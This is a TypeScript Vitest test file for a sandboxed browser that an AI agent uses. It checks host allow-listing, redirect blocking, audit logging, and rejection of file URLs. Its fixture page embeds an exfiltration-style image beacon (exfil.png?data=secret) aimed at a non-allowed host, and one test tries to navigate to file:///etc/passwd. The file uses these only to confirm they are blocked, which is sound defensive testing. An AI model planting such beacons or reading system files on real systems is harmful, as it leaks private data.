import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserPage } from '../../src/enclave/index.js';
import { makeSandbox, type Sandbox } from './harness.js';

let s: Sandbox;
let site: Server;
let other: Server;
let siteUrl: string;
let otherUrl: string;
const otherHits: string[] = [];
const siteHits: string[] = [];
const agent = { actor: 'agent' as const, sessionId: 's1', runId: null, wait: false };

function listen(server: Server, host: string): Promise<string> {
  return new Promise((resolve) =>
    server.listen(0, host, () => resolve(`http://${host}:${(server.address() as AddressInfo).port}`)),
  );
}

beforeAll(async () => {
  // 127.0.0.2 is a different host to the policy (and unlisted), though it is this machine too.
  other = createServer((req, res) => {
    otherHits.push(req.url ?? '');
    res.end('leaked');
  });
  otherUrl = await listen(other, '127.0.0.2');
  site = createServer((req, res) => {
    siteHits.push(req.url ?? '');
    if (req.url?.startsWith('/redirect')) {
      res.writeHead(302, { location: `${otherUrl}/after-redirect` }).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<html><head><title>Notes</title></head><body>
      <h1>Meeting notes</h1><p>The budget is 42.</p>
      <img src="${otherUrl}/exfil.png?data=secret">
      <a href="/second">Second page</a>
      <form action="/search"><input name="q" id="q"><button>Go</button></form>
    </body></html>`);
  });
  siteUrl = await listen(site, '127.0.0.1');
  s = makeSandbox({ version: 1, network: { allowHosts: ['127.0.0.1'] } });
});
afterAll(async () => {
  await s.enclave.closeBrowser();
  s.close();
  site.close();
  other.close();
});

describe('browser sessions through the door', () => {
  let page: BrowserPage;

  it('refuses a host the policy does not allow: the page never loads', async () => {
    page = await s.enclave.openBrowser();
    const denied = await page.navigate(`${otherUrl}/`, agent);
    expect(denied).toMatchObject({ success: false, error: { code: 'PERMISSION_DENIED' } });
    expect(page.url).toBe('about:blank');
    expect(otherHits).toEqual([]);
    await expect(page.navigate('file:///etc/passwd', agent)).rejects.toMatchObject({
      code: 'INVALID_ARGUMENTS',
    });
  });

  it('loads an allowed loopback page, and nothing it embeds from elsewhere', async () => {
    const loaded = await page.navigate(`${siteUrl}/`, agent);
    expect(loaded.success).toBe(true);
    const { title, text } = await page.read();
    expect(title).toBe('Notes');
    expect(text).toContain('The budget is 42.');
    expect(await page.accessibility()).toContain('Second page');
    await new Promise((r) => setTimeout(r, 300));
    expect(otherHits).toEqual([]); // the image request was refused by the proxy
    const shot = await page.screenshot();
    expect([shot[0], shot[1]]).toEqual([0xff, 0xd8]); // a JPEG
  });

  it('clicks and types (decided and audited), and a redirect cannot carry it elsewhere', async () => {
    expect((await page.click({ text: 'Second page' }, agent)).success).toBe(true);
    expect(page.url).toBe(`${siteUrl}/second`);
    await page.navigate(`${siteUrl}/`, agent);
    expect((await page.type('budget 2027', { selector: '#q', submit: true }, agent)).success).toBe(true);
    expect(siteHits).toContain('/search?q=budget+2027');
    await page.navigate(`${siteUrl}/redirect`, agent);
    expect(otherHits).toEqual([]);
    const actions = [...s.enclave.audit.entriesAfter(0)].map((e) => `${e.action}:${e.decision}`);
    expect(actions).toEqual(
      expect.arrayContaining([
        'browser.navigate:deny',
        'browser.navigate:allow',
        'browser.click:allow',
        'browser.type:allow',
        'browser.connect:deny',
      ]),
    );
    await page.close();
  });
});
